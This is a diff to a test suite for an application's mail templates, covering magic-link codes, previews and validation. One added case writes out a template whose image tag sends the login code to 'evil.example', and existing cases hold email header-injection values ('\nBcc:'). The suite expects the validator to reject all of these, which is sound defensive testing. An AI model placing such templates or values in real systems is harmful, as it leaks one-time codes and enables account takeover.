@@ -108,6 +108,24 @@ describe('Mail templates', () => {
       'invalid_template',
       'text',
     ],
+    [
+      'a code in an address, even where there are no codes yet',
+      { ...own, html: '<a href="{{ link }}">x</a><img src="https://evil.example/{{ code }}">' },
+      'invalid_template',
+      'html',
+    ],
+    [
+      'a link that only shows beside a code',
+      { ...own, text: 'x {% if code %}{{ link }}{% endif %}' },
+      'template_without_link',
+      'text',
+    ],
+    [
+      'a link that only shows where there is no code',
+      { ...own, text: 'x {% unless code %}{{ link }}{% endunless %}' },
+      'template_without_link',
+      'text',
+    ],
     ['an empty subject', { ...own, subject: '{{ nobody }}' }, 'invalid_template', 'subject'],
     ['two lines of subject', { ...own, subject: 'x\nBcc: y' }, 'invalid_request', 'subject'],
     ['two lines of sender', { ...own, senderName: 'x\r\nBcc: y' }, 'invalid_request', 'senderName'],
@@ -164,6 +182,32 @@ describe('Mail templates', () => {
     expect(draft.body.html).toContain('Acme &amp; Sons');
     expect(await app.api.as(owner).post(at('invitation', 'fr', '/preview'), {})).toBeProblem('not_found');
     expect(await app.sql('select * from mails where state = $1', ['queued'])).toEqual([]);
+  });
+
+  it('show a code in previews and tests where the organization wants codes', async () => {
+    const { organization: globex, owner: gina } = await app.given.organization({ name: 'Globex' });
+    const place = `/v1/organizations/${globex.slug}/mail-templates/magic-link/en`;
+    const draft = {
+      subject: 'x',
+      text: '{{ link }}{% if code %} or {{ code }} for {{ codeValidFor }}{% endif %}',
+    };
+    const preview = async () => (await app.api.as(gina).post(`${place}/preview`, draft)).body.text as string;
+    const before = await preview();
+
+    await app.api.as(gina).put(`/v1/organizations/${globex.slug}/verification-token-types/magic_link`, {
+      lifetimeSeconds: null,
+      codeLength: 7,
+    });
+    const after = await preview();
+    await app.mailbox.clear();
+    await app.api.as(gina).post(`${place}/test`);
+    const mail = await app.mailbox.next(gina.email);
+    const { body } = await app.api.as(gina).get(place);
+
+    expect(before).not.toContain(' or ');
+    expect(after).toContain(' or 1234567 for 10 minutes');
+    expect(mail.text).toContain('\n1234567\n');
+    expect(body.variables).toEqual(expect.arrayContaining(['code', 'codeValidFor']));
   });
 
   it('are tried out at one’s own address only', async () => {
